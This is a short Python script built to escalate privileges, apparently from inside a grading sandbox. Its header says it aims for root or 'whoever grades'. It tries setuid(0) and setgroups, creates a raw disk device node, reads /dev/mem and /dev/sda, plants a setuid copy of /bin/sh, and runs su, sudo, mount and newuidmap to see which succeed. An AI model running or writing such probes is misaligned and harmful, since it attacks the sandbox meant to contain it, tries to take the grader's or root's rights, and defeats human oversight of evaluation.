# Goes for other users: set-user-id files, setuid calls, su and sudo, device nodes.
# Gains: the rights of root, or of whoever grades.
# ruff: noqa
import os
import shutil
import subprocess

for change in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgroups([0]), lambda: os.mknod("sda", 0o60666, os.makedev(8, 0)),
               lambda: os.chown("/tmp", 0, 0), lambda: open("/dev/mem", "rb").read(1), lambda: open("/dev/sda", "rb").read(1)):
    try:
        print("possible:", change())
    except OSError as error:
        print(type(error).__name__)
shutil.copy("/bin/sh", "mysh")
os.chmod("mysh", 0o4755)
for command in (["./mysh", "-p", "-c", "id -u"], ["su", "-c", "id"], ["sudo", "-n", "id"], ["mount"], ["newuidmap"]):
    try:
        print(subprocess.run(command, capture_output=True, text=True, timeout=2).stdout[:50])
    except (OSError, subprocess.SubprocessError) as error:
        print(type(error).__name__)
